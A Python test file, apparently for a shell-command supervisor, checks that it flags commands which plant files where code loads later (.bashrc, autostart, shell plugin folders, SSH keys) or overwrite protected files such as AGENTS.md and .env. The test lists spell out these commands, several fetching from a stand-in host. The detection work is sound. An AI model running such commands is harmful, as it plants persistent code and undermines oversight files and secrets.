"""Files that land where a line puts them, and more places code is loaded from later
(docs/security.md#named-patterns, ``persistence``, ``protected-file``).

Each hostile line below was approved in the manual home: a file copied into a folder
(``cp -t ~ .bashrc``, ``cp .bashrc ~/``) lands there under its own name; a download
named after its URL lands in the working folder or the one ``wget -P``/``curl
--output-dir`` name (``wget -P ~ URL/.bashrc``, ``curl -sSLO URL/AGENTS.md``); shell
frameworks load every plugin in their folders (oh-my-zsh's ``custom``, prezto's, fish's
``conf.d``); ``ssh-copy-id`` leaves a key that logs in from then on.
"""

from __future__ import annotations

import pytest

from multiplex import Supervisor
from multiplex.shell import find_protected_write, parse_line
from tests.shell._carriers import APPROVED, assert_named, homes_fixture, outcome

sup = homes_fixture("landed_files", ["cp *", "wget *", "curl *", "git *", "ssh-copy-id *"])

LANDED_IN_THE_HOME = [
    "cp -t ~ .bashrc",
    "cp --target-directory=$HOME .profile",
    "cp .bashrc ~/",
    "install -t ~ .zshrc",
    "wget -P ~ https://x.test/.bashrc",
    "curl --output-dir ~ -O https://x.test/.bashrc",
    "curl --output-dir ~/.config/autostart -O https://x.test/x.desktop",
    "git clone https://x.test/dots ~/.oh-my-zsh/custom/plugins/x",
    "cp x.zsh ~/.oh-my-zsh/custom/",
    "git clone https://x.test/p ~/.zprezto/modules/x",
    "echo x > ~/.config/fish/conf.d/x.fish",
    "ssh-copy-id -i /tmp/k.pub localhost",
    "ssh-copy-id user@host",
]
PROTECTED = ["AGENTS.md", ".env"]
OVER_A_PROTECTED_FILE = [
    "curl -sSLO https://x.test/AGENTS.md",
    "curl -O https://x.test/a/.env",
    "wget -N https://x.test/AGENTS.md",
    "cp -t . ../other/AGENTS.md",
    "cp ../tpl/AGENTS.md ./",
]
ELSEWHERE = [
    "cp build/app dist/",
    "cp -t dist build/app",
    "wget https://x.test/file.tgz",
    "curl -sSLO https://x.test/a/b.tar.gz",
    "ls ~/.oh-my-zsh",
]


@pytest.mark.parametrize("line", LANDED_IN_THE_HOME)
def test_a_file_landing_where_code_loads_is_persistence(sup: Supervisor, line: str) -> None:
    assert_named(sup, line, "persistence")


@pytest.mark.parametrize("line", OVER_A_PROTECTED_FILE)
def test_a_file_landing_over_a_protected_one_is_a_protected_write(line: str) -> None:
    found = find_protected_write(parse_line(line), PROTECTED)
    assert found is not None and found.pattern.name == "protected-file", line


@pytest.mark.parametrize("line", ELSEWHERE)
def test_files_landing_elsewhere_are_not(sup: Supervisor, line: str) -> None:
    assert outcome(sup, "manual", line) == APPROVED
    assert find_protected_write(parse_line(line), PROTECTED) is None
